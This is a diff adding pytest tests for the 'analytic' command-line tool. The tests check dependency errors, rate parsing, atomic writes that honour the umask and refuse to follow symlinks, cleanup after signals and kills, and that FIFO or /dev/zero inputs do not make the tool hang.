+def test_workers_without_the_sim_extra_names_it(tmp_path, capsys, monkeypatch):
+    import importlib.util
+
+    real = importlib.util.find_spec
+
+    def no_dask(name, *a, **kw):
+        if name.split(".")[0] in ("dask", "distributed"):
+            return None
+        return real(name, *a, **kw)
+
+    monkeypatch.setattr(importlib.util, "find_spec", no_dask)
+    (tmp_path / "m.toml").write_text(TINY)
+    assert main(["simulate", str(tmp_path / "m.toml"), "--rounds", "10", "--workers", "2"]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "analytic[sim]" in err
+
+
+def test_feature_frequency_accepts_one_in_n():
+    from analytic.cli.args import probability, rate
+
+    assert probability("1/150") == Fraction(1, 150)
+    assert probability("0.5%") == probability("1/200")
+    assert rate("94") == rate("0.94") == rate("94%")
+    assert rate("100") == 1
+
+
+def test_tuned_model_honours_the_umask(tmp_path):
+    from analytic.tuner.write import atomic_write
+
+    old = os.umask(0o022)
+    try:
+        atomic_write(tmp_path / "t.toml", "x = 1\n")
+    finally:
+        os.umask(old)
+    assert (tmp_path / "t.toml").stat().st_mode & 0o777 == 0o644
+
+
+def test_a_killed_tune_leftover_is_replaced_and_never_followed(tmp_path):
+    from analytic.tuner.write import atomic_write
+
+    victim = tmp_path / "victim"
+    victim.write_text("keep")
+    (tmp_path / ".t.toml.partial").symlink_to(victim)  # planted, or left by a killed run
+    atomic_write(tmp_path / "t.toml", "x = 1\n")
+    assert victim.read_text() == "keep"
+    assert (tmp_path / "t.toml").read_text() == "x = 1\n"
+    assert sorted(os.listdir(tmp_path)) == ["t.toml", "victim"]
+
+
+# --- real processes: signals, interruption, leftovers ---------------------------------------
+
+
+def _env(tmp: Path) -> dict:
+    env = dict(os.environ, PYTHONPATH=str(ROOT), TMPDIR=str(tmp / "systmp"))
+    (tmp / "systmp").mkdir(exist_ok=True)
+    return env
+
+
+def _slow_report_model(tmp: Path) -> Path:
+    """A game whose par sheet takes a few seconds to render (long strips in the XLSX and Markdown)."""
+    stops = 10000
+    strip = ", ".join(['"a"', '"b"'] + ['"x"'] * (stops - 2))
+    text = TINY.replace('base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]',
+                        "base = [" + ", ".join([f"[{strip}]"] * 3) + "]")
+    (tmp / "game").mkdir(exist_ok=True)
+    p = tmp / "game" / "slow.toml"
+    p.write_text(text)
+    return p
+
+
+def _wait_for_stage(tmp: Path, proc, limit: float = TIME_LIMIT) -> bool:
+    t0 = time.monotonic()
+    while time.monotonic() - t0 < limit and proc.poll() is None:
+        if any(n.startswith("analytic-report-") for n in os.listdir(tmp / "systmp")):
+            return True
+        time.sleep(0.02)
+    return False
+
+
+@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
+def test_a_signal_while_writing_leaves_nothing_behind(tmp_path, sig):
+    model = _slow_report_model(tmp_path)
+    out = tmp_path / "new" / "out"
+    proc = subprocess.Popen([sys.executable, "-m", "analytic", "report", str(model), "--out", str(out),
+                             "--formats", "xlsx,md"], cwd=ROOT, env=_env(tmp_path),
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    assert _wait_for_stage(tmp_path, proc), "the report never started writing"
+    proc.send_signal(sig)
+    _, err = proc.communicate(timeout=TIME_LIMIT)
+    assert proc.returncode == (143 if sig == signal.SIGTERM else 130), err
+    assert err.count("\n") == 1 and err.startswith("error: ") and "Traceback" not in err, err
+    assert not (tmp_path / "new").exists(), "no new (empty) folder"
+    assert os.listdir(tmp_path / "systmp") == [], "no staging folder"
+
+
+def test_sigkill_leaves_only_a_staging_folder_the_next_run_removes(tmp_path):
+    model = _slow_report_model(tmp_path)
+    out = tmp_path / "out"
+    env = _env(tmp_path)
+    argv = [sys.executable, "-m", "analytic", "report", str(model), "--out", str(out), "--formats", "xlsx,md"]
+    proc = subprocess.Popen(argv, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    assert _wait_for_stage(tmp_path, proc)
+    proc.kill()
+    proc.wait(timeout=TIME_LIMIT)
+    assert not out.exists(), "the output folder is made only once every format is rendered"
+    left = os.listdir(tmp_path / "systmp")
+    assert len(left) == 1 and left[0].startswith(f"analytic-report-{proc.pid}-")
+    done = subprocess.run(argv, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert os.listdir(tmp_path / "systmp") == []
+    assert sorted(os.listdir(out)) == ["slow.md", "slow.xlsx"]
+
+
+def test_ctrl_c_stops_a_long_simulation_with_one_line(tmp_path):
+    (tmp_path / "m.toml").write_text(TINY)
+    proc = subprocess.Popen([sys.executable, "-m", "analytic", "simulate", str(tmp_path / "m.toml"), "--rounds",
+                             str(10**10), "--no-progress"], cwd=ROOT, env=_env(tmp_path),
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    time.sleep(4)
+    proc.send_signal(signal.SIGINT)
+    out, err = proc.communicate(timeout=TIME_LIMIT)
+    assert proc.returncode == 130, err
+    assert err == "error: interrupted; nothing was written\n" and out == ""
+
+
+@pytest.mark.parametrize("argv", [
+    ["simulate", "{model}", "--rounds", "100000000000000000000"],
+    ["solve", "{pipe}"],
+    ["report", "{zero}", "--out", "{tmp}/out"],
+], ids=["rounds-1e20", "fifo-model", "dev-zero-model"])
+def test_no_hang_in_a_real_process(tmp_path, argv):
+    (tmp_path / "m.toml").write_text(TINY)
+    os.mkfifo(tmp_path / "pipe.toml")
+    (tmp_path / "zero.toml").symlink_to("/dev/zero")
+    argv = [a.replace("{model}", str(tmp_path / "m.toml")).replace("{pipe}", str(tmp_path / "pipe.toml"))
+            .replace("{zero}", str(tmp_path / "zero.toml")).replace("{tmp}", str(tmp_path)) for a in argv]
+    done = subprocess.run([sys.executable, "-m", "analytic", *argv], cwd=ROOT, env=_env(tmp_path),
+                          capture_output=True, text=True, timeout=TIME_LIMIT)
+    assert done.returncode == 2, done.stderr
+    assert done.stderr.count("\n") == 1 and done.stderr.startswith("error: ")
+    assert not (tmp_path / "out").exists()
